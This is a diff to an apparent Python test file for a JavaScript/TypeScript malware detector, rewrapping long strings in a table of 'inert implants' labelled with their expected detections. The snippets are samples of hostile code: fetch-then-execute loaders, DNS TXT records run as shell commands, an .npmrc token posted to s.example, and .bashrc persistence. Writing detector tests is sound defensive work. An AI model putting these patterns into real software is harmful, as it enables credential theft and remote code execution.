@@ -1,3 +1,4 @@
+# ruff: noqa: E501, ISC004 - snippets are cut at their own line ends
 """Inert implants in JavaScript and TypeScript, each in another style. Never run: only parsed."""
 
 from __future__ import annotations
@@ -34,7 +35,8 @@ IMPLANTS = {
     ),
     "module compile": (
         "const M = require('module'); const m = new M('x'); const c = require('crypto');\n"
-        "function run(d){ const k = c.createDecipheriv('aes-256-cbc', K, I); m._compile(k.update(d) + '', 'x'); }",
+        "function run(d){ const k = c.createDecipheriv('aes-256-cbc', K, I); "
+        "m._compile(k.update(d) + '', 'x'); }",
         "script.combination decode+dynamic-code",
     ),
     "callbacks over https": (
@@ -46,7 +48,8 @@ IMPLANTS = {
         "script.dataflow network-to-dynamic-code",
     ),
     "fetch, then Function": (
-        "async function boot() { const r = await fetch('https://cdn.example/a.js'); const t = await r.text(); Function(t)(); }",
+        "async function boot() { const r = await fetch('https://cdn.example/a.js'); const t = "
+        "await r.text(); Function(t)(); }",
         "script.dataflow network-to-dynamic-code",
     ),
     "promise chain to a process": (
@@ -56,7 +59,8 @@ IMPLANTS = {
     ),
     "TXT records as commands": (
         "const dns = require('dns'); const cp = require('child_process');\n"
-        "exports.poll = (z) => dns.resolveTxt(z, (e, rows) => { for (const row of rows) cp.execSync(row.join('')); });",
+        "exports.poll = (z) => dns.resolveTxt(z, (e, rows) => { for (const row of rows) "
+        "cp.execSync(row.join('')); });",
         "script.dataflow dns-to-process",
     ),
     "environment posted": (
@@ -74,7 +78,8 @@ IMPLANTS = {
     ),
     "npm token": (
         "const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');\n"
-        "function t() { const s = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); http.get('http://s.example/?' + s); }",
+        "function t() { const s = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); "
+        "http.get('http://s.example/?' + s); }",
         "script.combination credentials+network",
     ),
     "host name in a label": (
@@ -83,7 +88,8 @@ IMPLANTS = {
         "script.dataflow host-to-dns",
     ),
     "decoded host": (
-        "const net = require('net'); function c() { return net.connect(443, Buffer.from('aC5leGFtcGxl','base64').toString()); }",
+        "const net = require('net'); function c() { return net.connect(443, "
+        "Buffer.from('aC5leGFtcGxl','base64').toString()); }",
         "script.dataflow decoded-to-network",
     ),
     "decoded command": (
@@ -91,7 +97,8 @@ IMPLANTS = {
         "script.dataflow decoded-to-process",
     ),
     "module name in pieces": (
-        "const c = require('child' + '_pro' + 'cess'); c.spawn('sh', ['-c', 'true'], { detached: true, stdio: 'ignore' }).unref();",
+        "const c = require('child' + '_pro' + 'cess'); c.spawn('sh', ['-c', 'true'], { "
+        "detached: true, stdio: 'ignore' }).unref();",
         "script.concealment computed-import",
     ),
     "module name joined": (
@@ -131,7 +138,8 @@ IMPLANTS = {
         "script.combination dynamic-code+time-trigger",
     ),
     "shell profile": (
-        "const fs = require('fs'), os = require('os'); function s() { fs.appendFileSync(os.homedir() + '/.bashrc', 'true\\n'); }",
+        "const fs = require('fs'), os = require('os'); function s() { "
+        "fs.appendFileSync(os.homedir() + '/.bashrc', 'true\\n'); }",
         "script.combination filesystem-write+persistence",
     ),
     "web assembly from text": (
@@ -170,7 +178,8 @@ def test_implant_shows_at_the_end_of_a_bundle(name: str) -> None:
 def test_typescript_is_read_in_its_own_dialect() -> None:
     source = (
         "import { exec } from 'node:child_process';\n"
-        "export async function go(u: string): Promise<void> { const t: string = await (await fetch(u)).text(); exec(t); }\n"
+        "export async function go(u: string): Promise<void> { const t: string = await (await "
+        "fetch(u)).text(); exec(t); }\n"
     )
     shown = {f"{trait.kind} {trait.key}" for trait in analyse_javascript(source, "typescript")}
     assert "script.dataflow network-to-process" in shown
